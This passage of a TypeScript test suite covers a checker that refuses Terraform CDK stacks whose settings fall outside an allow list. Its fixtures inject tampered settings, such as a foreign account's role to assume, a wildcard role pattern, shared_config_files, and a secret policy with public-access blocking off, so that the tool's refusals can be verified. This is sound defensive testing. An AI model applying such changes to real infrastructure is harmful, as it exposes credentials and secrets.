    expect(stderr).toMatch(
      /^cdk\.tf\.json: provider\.aws\.shared_config_files\n {2}found shared_config_files, which is not on the list; allowed: /,
    );
    expect(stderr).toContain('is refused: 1 thing is not on the list.');
    expect(stderr).not.toContain('value-of-theirs');
    expect(existsSync(copy)).toBe(false);
  });

  it.each([
    ['no folder', [], /^Expected one folder, found 0/],
    ['a folder that is not there', ['nowhere'], /^nowhere is not a folder/],
    ['a list that is not there', ['docs', '--allow', 'nowhere.json'], /^nowhere\.json cannot be read/],
    ['a copy over something', ['docs', '--copy-to', 'docs'], /which already exists/],
    ['an option that is not known', ['docs', '--force'], /Unknown option '--force'/],
  ])('ends with 2 if it is given %s', async (_, args, message) => {
    const { exitCode, stderr } = await check(...args);
    expect(stderr).toMatch(message);
    expect(exitCode).toBe(2);
  });

  it('prints the list that docs/check-stack.md has', async () => {
    const { stdout } = await check('--list');
    expect(stdout).toBe(describeAllowed());
    expect(readFileSync(path.join(root, 'docs/check-stack.md'), 'utf8')).toContain(`\n\n${describeAllowed()}`);
  });
});

describe('A custom list', () => {
  const assuming = (role_arn: unknown) => (json: Json) => (json.provider.aws[0].assume_role = [{ role_arn }]);
  const [role = ''] = ownListOfTwoAccounts.assume_role;

  it('says which roles a provider may assume, each to the letter', () => {
    expect(new StackToAttack().change(assuming(role)).refused({ assume_role: [role] })).toEqual([]);
    for (const other of ['arn:aws:iam::777788889999:role/deploy', $('var.first'), `${role}/`, undefined, [role]]) {
      expect(new StackToAttack().change(assuming(other)).refused({ assume_role: [role] })).toContain(
        'cdk.tf.json: provider.aws.assume_role.role_arn: another role',
      );
    }
    const more = new StackToAttack().change((json) => {
      json.provider.aws[0].assume_role = [{ role_arn: role, external_id: 'x' }];
    });
    expect(more.refused({ assume_role: [role] })).toEqual([
      'cdk.tf.json: provider.aws.assume_role.external_id: external_id, which is not on the list',
    ]);
  });

  it('allows no role by a pattern', () => {
    expect(() => new StackToAttack().refused({ assume_role: ['arn:aws:iam::*:role/deploy'] })).toThrow('assume_role');
  });

  it('may allow policies that are public', () => {
    const stack = new StackToAttack().change((json) => {
      const secret_arn = 'arn:aws:secretsmanager:us-east-1:111122223333:secret:a-AbCdEf';
      json.resource.aws_secretsmanager_secret_policy = { a: { secret_arn, policy: '{}', block_public_policy: false } };
    });
    expect(stack.refused({ resource: { aws_secretsmanager_secret_policy: ['block_public_policy'] } })).toEqual([]);
  });
});
